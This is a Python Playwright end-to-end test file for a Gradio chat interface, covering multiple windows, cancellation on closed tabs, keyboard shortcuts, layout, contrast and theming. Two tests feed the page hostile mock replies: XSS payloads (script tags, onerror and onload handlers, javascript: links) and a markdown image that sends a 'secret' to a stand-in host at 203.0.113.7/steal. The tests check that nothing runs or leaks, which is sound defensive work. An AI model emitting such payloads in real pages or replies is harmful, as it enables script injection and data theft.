"""Several windows, closed windows, keys, and what the page must never do."""

from __future__ import annotations

import asyncio
import re
import sys
import threading
import time
import traceback
from collections.abc import Callable
from typing import Any

import httpx
import pytest
from playwright.sync_api import Page, expect

from backend.text.messages import Message
from tests.e2e.conftest import Server, Site, Watch, done, enter, say, settled, tab, wait_for

LONG = " ".join(f"word{i}" for i in range(4000))
Window = Callable[..., Page]
INSIDE = re.compile(r"[/\\\\](backend|ui|tests)[/\\\\][^:]*\.py$")


def test_two_windows_are_two_people(window: Window, site: Site) -> None:
    first, second = window(), window()
    site.service.delay, site.service.reply = 0.02, lambda asked: f"{asked} " + LONG
    say(first, "alpha", wait=False)
    expect(first.locator("#live")).to_contain_text("word2")  # so the first request is the first window's
    say(second, "beta", wait=False)
    expect(second.locator("#live")).to_contain_text("word2")
    so_far = len(first.locator("#live").inner_text())
    wait_for(lambda: len(first.locator("#live").inner_text()) > so_far)  # the first goes on while the second is written
    first.locator("#stop").click()
    done(first)
    assert site.service.requests[0].cancelled.is_set()
    assert not site.service.requests[1].cancelled.is_set()
    expect(second.locator("#stop")).to_be_visible()
    expect(first.locator("#messages .bot")).to_contain_text("alpha")
    expect(second.locator("#live")).to_contain_text("beta")
    second.locator("#stop").click()
    done(second)
    assert site.service.asked == [(Message("user", "alpha"),), (Message("user", "beta"),)]


def test_closed_tab_stops_its_generation(window: Window, site: Site) -> None:
    page = window()
    site.service.reply = lambda asked: LONG
    say(page, "Go on", wait=False)
    expect(page.locator("#live")).to_contain_text("word5")
    page.close()
    wait_for(lambda: site.service.requests[0].cancelled.is_set(), 20)  # the reply alone would take forty seconds
    wait_for(lambda: site.registry.running() == 0)


def test_fifty_closed_tabs_leave_nothing(site: Site, server: Server) -> None:
    """Fifty people who send a message and go away, spoken over plain HTTP: a browser adds nothing but time."""
    site.service.reply = lambda asked: LONG
    site.service.prefill_delay = 0.05
    before = threads_at_work()
    crowd_of(server.url, 25)
    crowd_of(server.url, 25)
    wait_for(lambda: len(site.service.requests) == 50)
    wait_for(lambda: all(request.cancelled.is_set() for request in site.service.requests))
    wait_for(lambda: site.registry.running() == 0)
    # Idle threads of a library's pool come and go as it likes; none may be left that waits in our code.
    wait_for(lambda: threads_at_work() <= before, 30)


def threads_at_work() -> int:
    """Threads of this process that are inside a function of the project."""
    stacks = sys._current_frames().values()
    ours = [
        frame for frame in stacks if any(INSIDE.search(f.f_code.co_filename) for f, _ in traceback.walk_stack(frame))
    ]
    return len(ours)


def crowd_of(url: str, people: int) -> None:
    """In a thread of its own, because Playwright's event loop is in this one."""
    crowd = threading.Thread(target=lambda: asyncio.run(leave(url, people)))
    crowd.start()
    crowd.join(180)


async def leave(url: str, people: int) -> None:
    """Open a session each, send a message, and cut the connection as soon as a reply is on its way."""
    async with httpx.AsyncClient(base_url=url, timeout=60) as client:
        config = (await client.get("config")).json()
        ids = {part["props"].get("elem_id"): part["id"] for part in config["components"]}

        def number(trigger: str, event: str) -> dict[str, Any]:
            target = [ids[trigger], event]
            return next(item for item in config["dependencies"] if target in [list(t) for t in item["targets"]])

        send = number("send", "click")
        values = {part["id"]: part["props"].get("value") for part in config["components"]}
        values = {id: "" if value is None else value for id, value in values.items()}

        async def one(person: int) -> None:
            session = f"leaver{person}-{time.monotonic()}"
            data = [f"question {person}" if i == ids["box"] else values.get(i, "") for i in send["inputs"]]
            stream = next(d for d in config["dependencies"] if d.get("trigger_after") == send["id"])
            for event, inputs in ((send, data), (stream, [])):
                body = {"data": inputs, "fn_index": event["id"], "session_hash": session, "event_data": None}
                (await client.post("gradio_api/queue/join", json=body)).raise_for_status()
                async with client.stream("GET", "gradio_api/queue/data", params={"session_hash": session}) as lines:
                    async for line in lines.aiter_lines():
                        if event is send and "process_completed" in line:
                            break
                        if event is stream and "process_generating" in line:
                            return

        for first in range(0, people, 10):
            await asyncio.gather(*(one(person) for person in range(first, min(people, first + 10))))


def test_keyboard_only(window: Window, site: Site) -> None:
    page = window()
    keys = page.keyboard
    expect(page.locator("#box textarea")).to_be_focused()
    keys.type("first line")
    keys.press("Shift+Enter")
    keys.type("second line")
    keys.press("Enter")
    expect(page.locator("#messages .message.bot")).to_have_count(1)
    assert site.service.asked[-1] == (Message("user", "first line\nsecond line"),)
    site.service.reply = lambda asked: LONG
    keys.type("go on")
    keys.press("Enter")
    expect(page.locator("#live")).to_contain_text("word5")
    keys.type("next")
    keys.press("Enter")  # nothing happens while a reply is written, and what is typed stays
    keys.press("Escape")
    wait_for(lambda: site.service.requests[-1].cancelled.is_set())
    done(page)
    expect(page.locator("#box textarea")).to_have_value("next")
    site.service.reply = lambda asked: f"You said: {asked}"
    keys.press("Alt+ArrowUp")
    expect(page.locator("#messages textarea")).to_be_focused()
    keys.press("Control+A")
    keys.type("edited by hand")
    keys.press("Enter")
    expect(page.locator("#messages .message.bot").last).to_have_text("You said: edited by hand")
    keys.press("Alt+N")
    expect(page.locator("#welcome")).to_be_visible()
    expect(page.locator("#box textarea")).to_be_focused()
    expect(page.locator("#box textarea")).to_have_value("next")
    for _ in range(12):
        keys.press("Tab")
        if page.evaluate("document.activeElement.id") == "send":
            break
    expect(page.locator("#send")).to_be_focused()
    keys.press("Enter")
    expect(page.locator("#messages .message.bot")).to_have_text("You said: next")


def test_question_mark_shows_the_keys_only_when_not_typing(page: Page) -> None:
    page.locator("#box textarea").press("?")
    expect(page.locator("#box textarea")).to_have_value("?")
    expect(page.locator("#keys[open]")).to_have_count(0)
    page.evaluate("document.activeElement.blur()")
    page.keyboard.press("?")
    expect(page.locator("#keys")).to_contain_text("Shift+Enter")
    page.keyboard.press("Escape")
    expect(page.locator("#keys[open]")).to_have_count(0)


@pytest.mark.parametrize("size", [(1280, 820), (390, 844)], ids=["desk", "phone"])
def test_fits_and_is_readable(window: Window, site: Site, size: tuple[int, int]) -> None:
    page = window(viewport={"width": size[0], "height": size[1]}, color_scheme="light")
    site.service.reply = lambda asked: (
        "Text\n\n```python\n" + "x = 1  # " + "long " * 60 + "\n```\n\n" + "unbroken" * 40
    )
    expect(page.locator("#welcome")).to_be_visible()
    say(page, "hello")
    for name in ("Chat", "Completion", "Parameters", "Presets"):
        tab(page, name)
        wide = page.evaluate("document.scrollingElement.scrollWidth - innerWidth")
        assert wide <= 0, f"{name} scrolls sideways by {wide} px"
    tab(page, "Chat")
    assert page.evaluate(
        "document.querySelector('#thread').scrollWidth <= document.querySelector('#thread').clientWidth"
    )
    expect(page.locator("#composer-card")).to_be_in_viewport()
    expect(page.locator("#chip .chip")).to_be_in_viewport()
    for mode, ground in (("light", "rgb(250, 249, 246)"), ("dark", "rgb(23, 22, 19)")):
        page.emulate_media(color_scheme=mode)  # type: ignore[arg-type]
        expect(page.locator(".gradio-container")).to_have_css("background-color", ground)
        page.wait_for_timeout(300)  # buttons change colour over a moment
        for name in (
            "#messages .user .prose p",
            "#messages .bot .prose p",
            "#chat-state .numbers",
            "#meter .meter",
            "#send",
        ):
            assert contrast(page, name) >= 4.5, f"{name} is hard to read in {mode} mode"
    if size[0] == 390:
        for selector in ("#send", "#new-chat", "#chip .chip", "#system-toggle", "#regenerate"):
            box = page.locator(selector).bounding_box()
            assert box is not None
            assert box["height"] >= 44, f"{selector} is small for a thumb"


def contrast(page: Page, selector: str) -> float:
    """WCAG contrast of an element's text against the nearest painted ground."""
    return float(
        page.evaluate(
            """(selector) => {
        const parse = (c) => { const m = c.match(/[\\d.]+/g).map(Number); return m.length < 4 ? [...m, 1] : m; };
        const linear = (v) => v / 255 <= .04045 ? v / 255 / 12.92 : ((v / 255 + .055) / 1.055) ** 2.4;
        const light = (c) => .2126 * linear(c[0]) + .7152 * linear(c[1]) + .0722 * linear(c[2]);
        const element = document.querySelector(selector);
        let ground = element;
        while (ground && parse(getComputedStyle(ground).backgroundColor)[3] < 1) ground = ground.parentElement;
        const a = light(parse(getComputedStyle(element).color));
        const b = light(parse(getComputedStyle(ground || document.body).backgroundColor));
        return (Math.max(a, b) + .05) / (Math.min(a, b) + .05);
    }""",
            selector,
        )
    )


def test_theme_can_be_turned_and_is_remembered(page: Page) -> None:
    page.get_by_label("Light or dark").click()
    expect(page.locator("body")).to_have_class("dark")
    page.reload()
    expect(page.locator("body")).to_have_class("dark")
    settled(page)
    page.get_by_label("Light or dark").click()
    expect(page.locator("body")).not_to_have_class("dark")


def test_model_output_runs_nothing(page: Page, site: Site, watch: Watch) -> None:
    watch.expected = ("Content Security Policy", "Content-Security-Policy", "404")
    site.service.reply = lambda asked: (
        "<script>window.hit = 1</script> <img src=x onerror='window.hit = 2'> <svg onload='window.hit = 3'></svg> "
        "[link](javascript:window.hit=4) <iframe srcdoc='<script>parent.hit = 5</script>'></iframe> "
        "<a href='javascript:window.hit=6'>here</a> <style>body{display:none}</style> done </textarea>"
        "<b onclick='hit=7'>b</b>"
    )
    say(page, "<img src=x onerror='window.hit = 8'>", wait=False)
    expect(page.locator("#messages .message.bot")).to_contain_text("done")
    for link in page.locator("#messages a").all():
        assert not (link.get_attribute("href") or "").startswith("javascript")
    page.wait_for_timeout(300)
    assert page.evaluate("window.hit") is None
    expect(page.locator("#box textarea")).to_be_visible()
    watch.outside.clear()


def test_a_picture_in_a_reply_is_not_fetched_from_outside(page: Page, site: Site, watch: Watch) -> None:
    watch.expected = ("Content Security Policy", "Content-Security-Policy")
    site.service.reply = lambda asked: "look ![x](http://203.0.113.7/steal?q=secret) done"
    reached: list[str] = []
    page.on("requestfinished", lambda request: reached.append(request.url) if "203.0.113.7" in request.url else None)
    say(page, "picture")
    page.wait_for_timeout(300)
    assert reached == []
    watch.outside.clear()  # the browser counts a request that the policy has refused


def test_a_reload_in_another_window_does_not_disturb(window: Window, site: Site) -> None:
    first = window()
    say(first, "mine")
    second = window()
    expect(second.locator("#messages .message.user")).to_have_count(0)
    copy = first.context.new_page()  # a second tab of the same browser has its own chat, too
    enter(copy, site.url)
    expect(copy.locator("#messages .message.user")).to_have_count(0)
    expect(first.locator("#messages .message.user")).to_have_count(1)
